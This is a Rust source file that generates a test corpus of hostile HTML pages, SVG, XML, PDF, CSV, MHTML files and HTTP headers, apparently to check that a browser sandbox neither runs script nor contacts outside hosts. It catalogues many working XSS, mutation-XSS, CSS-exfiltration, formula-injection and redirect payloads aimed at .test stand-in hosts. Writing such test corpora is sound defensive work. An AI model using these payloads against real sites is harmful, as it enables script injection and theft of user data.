//! Pages and files that try everything. In each piece, `{run}` is a script that tells that it ran, and `{out}` an address that nobody may
//! ask; both have the name of the piece in them.

use crate::web::Page;

/// A file of the collection.
pub(crate) struct File {
    pub(crate) name: String,
    pub(crate) page: Page,
    /// What would tell that it does harm, if it is shown as its server meant it.
    pub(crate) trips: Vec<String>,
}

/// Pieces of one page: what runs, or asks, by itself and where it stands.
const TOGETHER: &[(&str, &str)] = &[
    ("script", "<script>{run}</script>"),
    ("script-src", "<script src={out}a.js></script>"),
    (
        "script-split",
        "<scr<script>ipt>{run}</scr</script><script>{run}</script>ipt>",
    ),
    ("script-slash", "<script/x>{run}</script/x>"),
    (
        "script-data",
        "<script src='data:text/javascript,{run}'></script>",
    ),
    ("module", "<script type=module>import '{out}m.js'</script>"),
    (
        "import-map",
        r#"<script type=importmap>{"imports":{"mapped":"{out}mapped.js"}}</script><script type=module>import 'mapped'</script>"#,
    ),
    (
        "speculation",
        r#"<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{out}"]}]}</script>"#,
    ),
    ("preload", "<link rel=preload as=image href={out}>"),
    (
        "preload-list",
        "<link rel=preload as=image imagesrcset='{out} 1x'>",
    ),
    ("prefetch", "<link rel=prefetch href={out}>"),
    ("preconnect", "<link rel=preconnect href={out}>"),
    ("dns-prefetch", "<link rel=dns-prefetch href={out}>"),
    ("module-preload", "<link rel=modulepreload href={out}m.js>"),
    ("manifest", "<link rel=manifest href={out}>"),
    ("style-link", "<link rel='Stylesheet' href={out}a.css>"),
    (
        "style-data",
        "<link rel=stylesheet href='data:text/css,@import%20%22{out}%22'>",
    ),
    (
        "style-both",
        "<link rel='stylesheet preload' as=style href={out}b.css>",
    ),
    ("icon", "<link rel='shortcut icon' href={out}a.ico>"),
    (
        "meta-cookie",
        "<meta http-equiv=Set-Cookie content='planted=meta'>",
    ),
    ("css-import", "<style>@import '{out}i.css';</style>"),
    (
        "css-escaped",
        "<style>.esc{background:u\\72 l({out}e.png)}</style><p class=esc>x",
    ),
    (
        "css-content",
        "<style>.cnt::before{content:url({out})}</style><p class=cnt>x",
    ),
    (
        "css-image-set",
        "<style>.set{background:image-set('{out}s.png' 1x)}</style><p class=set>x",
    ),
    (
        "css-font",
        "<style>@font-face{font-family:far;src:url({out}f.woff2)}.far{font-family:far}</style><p class=far>x",
    ),
    (
        "css-selector",
        "<style>input[value^=se]{background:url({out}se)}</style><input value=secret>",
    ),
    (
        "css-has",
        "<style>html:has(input[name=token][value^=k]){--leak:url({out}k)}.leak{background:var(--leak)}</style><input type=hidden name=token value=key><p class=leak>x",
    ),
    (
        "css-property",
        "<style>@property --p{syntax:'<image>';inherits:true;initial-value:url({out}p)}.prop{background:var(--p)}</style><p class=prop>x",
    ),
    ("css-inline", "<p style='background:url({out})'>x"),
    (
        "css-quoted",
        "<p style=\"list-style:url('{out}');display:list-item\">x",
    ),
    (
        "css-comment",
        "<style>.c{background:/**/url(/**/{out});background:url({out}c)}</style><p class=c>x",
    ),
    (
        "css-shape",
        "<p style='float:left;width:9px;height:9px;-webkit-mask:url({out})'>x",
    ),
    ("css-svg-filter", "<p style='filter:url({out}f.svg#a)'>x"),
    (
        "css-cdata",
        "<svg><style><![CDATA[@import '{out}';.cd{fill:red}]]></style></svg>",
    ),
    ("image", "<img src={out}>"),
    ("image-lines", "<img src='ht\ntp://image-lines.out.test/'>"),
    (
        "image-slashes",
        "<img src='http:\\\\image-slashes.out.test\\a'>",
    ),
    (
        "image-scheme-less",
        "<img src=//image-scheme-less.out.test/>",
    ),
    (
        "image-entities",
        "<img src='&#104;ttp://image-entities.out.test/'>",
    ),
    ("image-list", "<img srcset='{out} 1x, {out}2 2x'>"),
    ("image-named", "<image src={out}>"),
    ("picture", "<picture><source srcset={out}><img></picture>"),
    ("input-image", "<input type=image src={out}>"),
    ("background", "<table background={out}><tr><td>x</table>"),
    ("error", "<img src=data:,x onerror='{run}'>"),
    ("error-slash", "<img/src='data:,x'/onerror={run}>"),
    ("error-case", "<IMG SRC=data:,x oNeRrOr='{run}'>"),
    ("error-entities", "<img src=data:,x onerror='&#9;{run}'>"),
    ("load-svg", "<svg onload='{run}'></svg>"),
    ("load-style", "<style onload='{run}'></style>"),
    ("toggle", "<details open ontoggle='{run}'>x</details>"),
    ("focus", "<input autofocus onfocus='{run}'>"),
    (
        "animation",
        "<style>@keyframes k{to{opacity:.9}}.an{animation:k 1ms}</style><p class=an onanimationend='{run}'>x",
    ),
    ("marquee", "<marquee onstart='{run}'>x</marquee>"),
    ("svg-script", "<svg><script>{run}</script></svg>"),
    (
        "svg-script-href",
        "<svg><script href='data:text/javascript,{run}'/></svg>",
    ),
    (
        "svg-image",
        "<svg><image href={out} width=9 height=9 /></svg>",
    ),
    (
        "svg-xlink",
        "<svg><image xlink:href={out} width=9 height=9 /></svg>",
    ),
    (
        "svg-fe-image",
        "<svg width=9 height=9><filter id=fe><feImage href={out} /></filter><rect width=9 height=9 filter='url(#fe)'/></svg>",
    ),
    (
        "svg-set",
        "<svg><image width=9 height=9><set attributeName=href to={out} /></image></svg>",
    ),
    (
        "svg-animate",
        "<svg><image width=9 height=9><animate attributeName=href values='{out};{out}' dur=1s /></image></svg>",
    ),
    (
        "svg-begin",
        "<svg><animate onbegin='{run}' attributeName=x dur=1s></svg>",
    ),
    (
        "svg-fill",
        "<svg width=9 height=9><rect width=9 height=9 mask='url({out}m.svg#a)'/></svg>",
    ),
    (
        "svg-foreign",
        "<svg><foreignObject><img src={out}></foreignObject></svg>",
    ),
    (
        "math",
        "<math><mtext><img src=data:,x onerror='{run}'></mtext></math>",
    ),
    ("frame", "<iframe src={out}></iframe>"),
    ("frame-script", "<iframe src='javascript:{run}'></iframe>"),
    (
        "frame-script-tab",
        "<iframe src='java\tscript:{run}'></iframe>",
    ),
    (
        "frame-data",
        "<iframe src='data:text/html,<script>{run}</script>'></iframe>",
    ),
    (
        "frame-doc",
        "<iframe srcdoc='<script>{run}</script>'></iframe>",
    ),
    (
        "frame-doc-entities",
        "<iframe srcdoc='&lt;img src=data:,x onerror=&quot;{run}&quot;&gt;'></iframe>",
    ),
    (
        "frame-doc-out",
        "<iframe srcdoc='<img src={out}>'></iframe>",
    ),
    (
        "frame-doc-deep",
        "<iframe srcdoc='<iframe srcdoc=\"<iframe srcdoc=&amp;quot;<img src={out}>&amp;quot;></iframe>\"></iframe>'></iframe>",
    ),
    (
        "frame-doc-refresh",
        "<iframe srcdoc='<meta http-equiv=refresh content=0;url={out}>'></iframe>",
    ),
    (
        "frame-allowed",
        "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>{run}</script>'></iframe>",
    ),
    ("object", "<object data={out}></object>"),
    (
        "object-html",
        "<object data='data:text/html,<script>{run}</script>'></object>",
    ),
    ("embed", "<embed src={out}>"),
    (
        "embed-svg",
        "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>\">",
    ),
    ("video", "<video src={out}v.mp4 autoplay></video>"),
    ("video-poster", "<video poster={out}></video>"),
    (
        "video-source",
        "<video autoplay><source src={out}v.webm></video>",
    ),
    (
        "video-track",
        "<video src='data:video/mp4,' crossorigin=anonymous><track default kind=subtitles src={out}t.vtt></video>",
    ),
    ("audio", "<audio autoplay src={out}a.mp3></audio>"),
    (
        "form-auto",
        "<form id=f action={out}><input name=a value=b></form><iframe name=sink></iframe><script>f.target='sink';f.submit()</script>",
    ),
    (
        "template",
        "<template id=t><img src={out}></template><script>document.body.append(t.content)</script>",
    ),
    (
        "shadow",
        "<div><template shadowrootmode=open><img src={out}><script>{run}</script></template></div>",
    ),
    (
        "worker",
        "<script>new Worker(URL.createObjectURL(new Blob(['fetch(`{out}`)'])))</script>",
    ),
    ("fetch", "<script>fetch('{out}',{mode:'no-cors'})</script>"),
    ("beacon", "<script>navigator.sendBeacon('{out}')</script>"),
    (
        "socket",
        "<script>new WebSocket('ws://socket.out.test/')</script>",
    ),
    ("stream", "<script>new EventSource('{out}')</script>"),
    (
        "cookie",
        "<script>document.cookie='planted=cookie;max-age=10000'</script>",
    ),
    (
        "storage",
        "<script>localStorage.planted='planted-storage';sessionStorage.planted='planted-session';indexedDB.open('planted')</script>",
    ),
    (
        "service-worker",
        "<script>navigator.serviceWorker.register('/worker.js')</script>",
    ),
    (
        "message",
        "<iframe id=m srcdoc=x></iframe><script>onmessage=()=>{{run}};m.contentWindow.parent.postMessage(1,'*')</script>",
    ),
    (
        "conditional",
        "<!--[if gte IE 4]><script>{run}</script><![endif]--><!--><script>{run}</script>",
    ),
    (
        "noscript",
        "<noscript><p title='</noscript><img src=data:,x onerror={run}>'></noscript>",
    ),
    ("noscript-plain", "<noscript><img src={out}></noscript>"),
    (
        "textarea",
        "<textarea><p title='</textarea><img src=data:,x onerror={run}>'></textarea>",
    ),
    (
        "xmp",
        "<xmp><p title='</xmp><img src=data:,x onerror={run}>'></xmp>",
    ),
    (
        "noembed",
        "<noembed><p title='</noembed><img src=data:,x onerror={run}>'></noembed>",
    ),
    (
        "frame-text",
        "<iframe><p title='</iframe><img src=data:,x onerror={run}>'></iframe>",
    ),
    (
        "style-breaks-out",
        "<style>a{b:'</style><img src=data:,x onerror={run}>'}</style>",
    ),
    (
        "svg-style",
        "<svg><style><img src=data:,x onerror={run}></style></svg>",
    ),
    (
        "svg-title",
        "<svg><title><img src=data:,x onerror={run}></title></svg>",
    ),
    ("svg-desc", "<svg><desc><script>{run}</script></desc></svg>"),
    (
        "svg-cdata",
        "<svg><![CDATA[><img src=data:,x onerror={run}>]]></svg>",
    ),
    ("html-cdata", "<![CDATA[><img src=data:,x onerror={run}>]]>"),
    (
        "math-style",
        "<math><mi><style><img src=data:,x onerror={run}></style></mi></math><math><style><img src=data:,x onerror={run}></style></math>",
    ),
    (
        "math-glyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src=data:,x onerror={run}>",
    ),
    (
        "math-annotation",
        "<math><annotation-xml encoding='text/html'><style><img src=data:,x></style><img src=data:,x onerror={run}></annotation-xml></math>",
    ),
    (
        "svg-p-style",
        "<svg></p><style><a id='</style><img src=data:,x onerror={run}>'></svg>",
    ),
    (
        "table-select",
        "<select><template><style><a title='</style><img src=data:,x onerror={run}>'></template></select>",
    ),
    ("comment-dash", "<!--><img src=data:,x onerror={run}>-->"),
    (
        "comment-bang",
        "<!-- --!><img src=data:,x onerror={run}>-->",
    ),
    ("processing", "<?xml ><img src=data:,x onerror={run}>?>"),
    (
        "end-tag",
        "</ img src=data:,x><img src=data:,x onerror={run}>",
    ),
    ("doctype", "<!DOCTYPE x '><img src=data:,x onerror={run}>'>"),
    ("nul", "<img src=data:,x o\0nerror='x' onerror\n=\n'{run}'>"),
    (
        "many-attributes",
        "<img src=data:,x onerror='{run}' onerror=x {attributes}>",
    ),
    (
        "twice",
        "<img src=data:,x class=a class='b' onerror='{run}' src={out}>",
    ),
];

/// Pieces that need a page of their own: they go elsewhere, or leave the page torn.
const ALONE: &[(&str, &str)] = &[
    ("title", "<title>\"></title><script>{run}</script>"),
    (
        "title-open",
        "<title><p title='</title><script>{run}</script>'>x",
    ),
    (
        "anchor",
        "<a name='\"><script>{run}</script>' id=\"'><script>{run}</script>\">x</a><script>{run}</script>",
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content='0;url={out}'>x",
    ),
    (
        "refresh-case",
        "<META HTTP-EQUIV='&#82;efresh' CONTENT='0; URL={out}'>x",
    ),
    (
        "refresh-noscript",
        "<script>{run}</script><noscript><meta http-equiv=refresh content='0;url={out}'></noscript>",
    ),
    (
        "refresh-svg",
        "<svg><desc><meta http-equiv=refresh content='0;url={out}'></desc></svg>",
    ),
    (
        "refresh-script",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>{run}</script>'><script>{run}</script>",
    ),
    (
        "base",
        "<base href={out}><img src=relative.png><a href=relative>x</a>",
    ),
    (
        "base-late",
        "<img src=http://base-late.out.test/><svg><base href={out}></svg><base href={out}><img src=relative.png>",
    ),
    (
        "base-target",
        "<base target=_top><script>{run}</script><a href=x>x</a>",
    ),
    ("top", "<script>{run};top.location='{out}'</script>"),
    ("location", "<script>location='{out}'</script>"),
    (
        "write",
        "<script>document.write('<img src={out}>')</script>",
    ),
    ("opens", "<script>{run};open('{out}')</script>"),
    (
        "dialog",
        "<script>{run};alert(1);confirm(1);print()</script>",
    ),
    (
        "policy",
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline' data:; report-uri {out}\"><img src={out}><script>{run}</script>",
    ),
    (
        "body",
        "<body onload='{run}' onpageshow='{run}' background={out}>x",
    ),
    (
        "plaintext",
        "<script>{run}</script><plaintext><img src={out}>",
    ),
    (
        "unclosed-script",
        "<img src={out}><script>{run}</script><script>//",
    ),
    (
        "unclosed-comment",
        "<script>{run}</script><!-- <img src={out}>",
    ),
    (
        "unclosed-attribute",
        "<script>{run}</script><img src='{out}",
    ),
    (
        "unclosed-style",
        "<script>{run}</script><style>@import '{out}';p{background:url({out}",
    ),
    (
        "late-picture",
        "<script>{run}</script><img data-src='{out}' data-srcset='{out} 1x'><iframe data-src='javascript:{run}'></iframe><img data-src='\"onerror={run}'>",
    ),
    (
        "iso-2022",
        "\x1b$B<script>{run}</script>\x1b(B<img alt='\x1b$B'>\x1b(B<img title='> src=x onerror={run} '><script>{run}</script>",
    ),
];

const DRAWING: &str = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload='{run}'><script>{run}</script><image href='{out}' width='9' height='9'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{out}'/></foreignObject></svg>";

/// Files that are no HTML, or say that they are none: name, media type, text.
const FILES: &[(&str, &str, &str)] = &[
    (
        "frameset",
        "text/html",
        "<frameset onload='{run}'><frame src={out}><frame src='javascript:{run}'></frameset>",
    ),
    ("drawing", "image/svg+xml", DRAWING),
    (
        "data-xml",
        "application/xml",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{out}'>]><x xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script><img src='{out}'/>&e;</x>",
    ),
    (
        "styled-xml",
        "text/xml",
        "<?xml version='1.0'?><?xml-stylesheet href='{out}' type='text/css'?><x><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script></x>",
    ),
    (
        "xhtml",
        "application/xhtml+xml",
        "<?xml version='1.0'?><?xml-stylesheet href='{out}s.css' type='text/css'?><html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title><style><![CDATA[@import '{out}c.css';]]></style></head><body><p>Words of a page</p><script><![CDATA[{run}]]></script><h:img xmlns:h='http://www.w3.org/1999/xhtml' src='{out}'/></body></html>",
    ),
    (
        "upper",
        "TEXT/HTML; charset=\"utf-8\"",
        "<script>{run}</script>words",
    ),
    (
        "no-type",
        "",
        "<!doctype html><script>{run}</script><img src={out}>words",
    ),
    (
        "utf-7",
        "text/html; charset=utf-7",
        "+ADw-script+AD4-{run}+ADw-/script+AD4-<script>{run}</script>words",
    ),
    (
        "utf-16",
        "text/html; charset=utf-16le",
        "<script>{run}</script><img src={out}>words",
    ),
];

/// The same, but harmless to who opens them as they are.
const INERT: &[(&str, &str, &str)] = &[
    (
        "plain",
        "text/plain",
        "<!doctype html><script>{run}</script><img src={out}>",
    ),
    (
        "table",
        "text/csv",
        "name,<script>{run}</script>\n\"=HYPERLINK(\"\"{out}\"\")\",<img src={out} onerror={run}>\n",
    ),
    (
        "json",
        "application/json",
        "{\"a\":\"</pre><script>{run}</script><img src={out}>\"}",
    ),
    (
        "feed",
        "application/rss+xml",
        "<?xml version='1.0'?><rss version='2.0'><channel><title>&lt;script&gt;{run}&lt;/script&gt;</title><item><description><![CDATA[<img src={out} onerror={run}>]]></description></item></channel></rss>",
    ),
    ("script-file", "text/javascript", "{run}"),
    (
        "document",
        "application/pdf",
        "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('{out}'))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ),
    (
        "shown-picture",
        "image/png",
        "<!doctype html><script>{run}</script><img src={out}>",
    ),
    ("film", "video/mp4", "<!doctype html><script>{run}</script>"),
];

/// Headers with which a server tries the same.
pub(crate) const HEADERS: &[(&str, &str)] = &[
    ("Refresh", "1; url=http://header-refresh.out.test/"),
    (
        "Link",
        "<http://header-link.out.test/>; rel=preload; as=image",
    ),
    ("Set-Cookie", "planted=header; Max-Age=10000"),
    ("Clear-Site-Data", "\"cookies\", \"storage\""),
    (
        "Strict-Transport-Security",
        "max-age=31536000; includeSubDomains",
    ),
    (
        "Content-Security-Policy-Report-Only",
        "default-src 'none'; report-uri http://header-policy.out.test/",
    ),
    (
        "Reporting-Endpoints",
        "default=\"http://header-reports.out.test/\"",
    ),
    (
        "NEL",
        "{\"report_to\":\"default\",\"max_age\":1000,\"success_fraction\":1}",
    ),
    ("Service-Worker-Allowed", "/"),
    ("Content-Location", "http://header-content.out.test/"),
    ("Access-Control-Allow-Origin", "*"),
    ("X-SourceMap", "http://header-map.out.test/"),
];

/// What a click would do, each over the whole page.
pub(crate) const CLICKS: &[(&str, &str)] = &[
    ("click-script", "<a href='javascript:{run}'>"),
    (
        "click-script-hidden",
        "<a href='&#1;java&#10;script&colon;{run}'>",
    ),
    ("click-handler", "<a href=# onclick='{run}'>"),
    ("click-out", "<a href={out}>"),
    ("click-top", "<a target=_top href={out}>"),
    ("click-new", "<a target=_blank href={out}>"),
    ("click-ping", "<a ping={out} href=#a>"),
    (
        "click-svg",
        "<svg width=1280 height=800><a xlink:href='javascript:{run}'><rect width=1280 height=800 /></a></svg><a style=display:none>",
    ),
    (
        "click-form",
        "<form action={out} target=_top><button style='position:fixed;inset:0;width:100%;height:100%'>x</button></form><a style=display:none>",
    ),
    (
        "click-form-action",
        "<form><button formaction='javascript:{run}' style='position:fixed;inset:0;width:100%;height:100%'>x</button></form><a style=display:none>",
    ),
    (
        "click-map",
        "<img usemap=#m width=1280 height=800 src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>\"><map name=m><area shape=default href={out}></map><a style=display:none>",
    ),
];

/// A page saved by a browser, as a stranger may have made it.
const SAVED: &str = "From: <Saved by Blink>\r\nSnapshot-Content-Location: http://a.test/saved\r\nSubject: <script>{run}</script>\r\n\
    MIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"----x\"\r\n\r\n\
    ------x\r\nContent-Type: text/html\r\nContent-Location: http://a.test/saved\r\n\r\n<html><script>{run}</script>\
    <link rel=stylesheet href=\"cid:css@x\"><img src=\"cid:a\" onerror=\"{run}\"><img src=\"cid:drawn@x\"><iframe src=\"cid:frame@x\"></iframe>\
    <img src=\"cid:x&quot;onerror=&quot;{run}\"><img src={out}><p>Words of a page that was saved.</html>\r\n\
    ------x\r\nContent-Type: text/css\r\nContent-ID: <css@x>\r\n\r\n@import url({out}); p { background: url({out}b) }\r\n\
    ------x\r\nContent-Type: image/svg+xml\r\nContent-ID: <drawn@x>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{run}</script><image href=\"{out}\"/></svg>\r\n\
    ------x\r\nContent-Type: text/html\r\nContent-ID: <frame@x>\r\n\r\n<script>{run}</script><img src={out}>\r\n------x--\r\n";

/// A piece with its name in it.
fn filled(name: &str, text: &str) -> String {
    let run = format!("console.log(`ran:{name}`);new(Image)().src=`http://{name}.ran.test/`");
    let attributes = (0..600).fold(String::new(), |all, n| all + &format!(" a{n}"));
    text.replace("{attributes}", &attributes)
        .replace("{run}", &run)
        .replace("{out}", &format!("http://{name}.out.test/"))
}

/// How a piece tells that it did something; nothing where it leaves something behind instead.
pub(crate) fn trip(name: &str, text: &str) -> Option<String> {
    let tells = if text.contains("{run}") {
        "ran"
    } else if text.contains("{out}") || text.contains(".out.test") {
        "out"
    } else {
        return None;
    };
    Some(format!("{name}.{tells}.test"))
}

fn page(body: &str) -> String {
    let words = "<p>A paragraph of words, so that this is a page that says something to those who read it.</p>".repeat(4);
    format!(
        "<!doctype html><html><body><div style='height:0;overflow:hidden'>{words}</div>{body}</body></html>"
    )
}

/// The whole collection.
pub(crate) fn files() -> Vec<File> {
    let mut files = Vec::new();
    let mut add = |name: &str, page: Page, trips: Vec<String>| {
        let name = name.to_owned();
        files.push(File { name, page, trips });
    };
    for (n, some) in TOGETHER.chunks(12).enumerate() {
        let pieces: Vec<_> = some.iter().map(|(name, text)| filled(name, text)).collect();
        let trips = some
            .iter()
            .filter_map(|(name, text)| trip(name, text))
            .collect();
        add(
            &format!("together-{n}"),
            Page::html(page(&pieces.join("\n"))),
            trips,
        );
    }
    for (name, text) in ALONE {
        add(
            name,
            Page::html(page(&filled(name, text))),
            Vec::from_iter(trip(name, text)),
        );
    }
    for (name, text) in CLICKS {
        let page = page(&format!(
            "{}<span style='position:fixed;inset:0;background:#eee'>x</span></a>",
            filled(name, text)
        ));
        add(name, Page::html(page), Vec::new());
    }
    for (name, media_type, text) in FILES {
        let mut body = filled(name, text).into_bytes();
        if *name == "utf-16" {
            body = body.iter().flat_map(|byte| [*byte, 0]).collect();
        }
        add(
            name,
            Page::bytes(media_type, body),
            Vec::from_iter(trip(name, text)),
        );
    }
    for (name, media_type, text) in INERT {
        add(
            name,
            Page::bytes(media_type, filled(name, text)),
            Vec::new(),
        );
    }
    let mut headers = Page::html(page("<script src=data:,x></script>x"));
    for (name, value) in HEADERS {
        headers = headers.header(name, value);
    }
    let trips = ["header-refresh", "header-link", "header-policy"];
    add(
        "headers",
        headers,
        trips.map(|name| format!("{name}.out.test")).to_vec(),
    );
    add(
        "saved",
        Page::bytes("multipart/related; boundary=\"----x\"", saved()),
        Vec::new(),
    );
    let name = "'%22%3E%3Cscript%3Econsole.log('ran:address')%3C/script%3E?%22onload=console.log('ran:address')";
    add(
        name,
        Page::html(page(
            "<title>&lt;/title&gt;&lt;script&gt;console.log('ran:told')&lt;/script&gt;</title>x",
        )),
        Vec::new(),
    );
    files
}

/// A page as a browser saves it, in one file.
pub(crate) fn saved() -> String {
    filled("saved", SAVED)
}

/// What any other host answers, by the ending of the address.
pub(crate) fn anything(host: &str, path: &str) -> Page {
    if host.rsplit('.').next() != Some("test") {
        // The browser's own errands.
        return Page::empty(404);
    }
    let name = host.split('.').next().unwrap();
    let name = format!("{name}-reply");
    match path.rsplit('.').next() {
        Some("js") => Page::bytes("text/javascript", filled(&name, "{run}")).header("Access-Control-Allow-Origin", "*"),
        Some("css") => Page::bytes("text/css", filled(&name, "@import '{out}';p{background:url({out}p)}")),
        Some("svg" | "png") => Page::bytes("image/svg+xml", filled(&name, DRAWING)),
        Some("mp4" | "webm" | "mp3" | "vtt" | "woff2") => Page::bytes("text/html", filled(&name, "<script>{run}</script>")),
        _ => Page::html(filled(&name, "<!doctype html><script>{run}</script><img src={out}><p>What another host says to who asks it.")),
    }
    .header("Set-Cookie", "elsewhere=planted; Max-Age=10000")
}
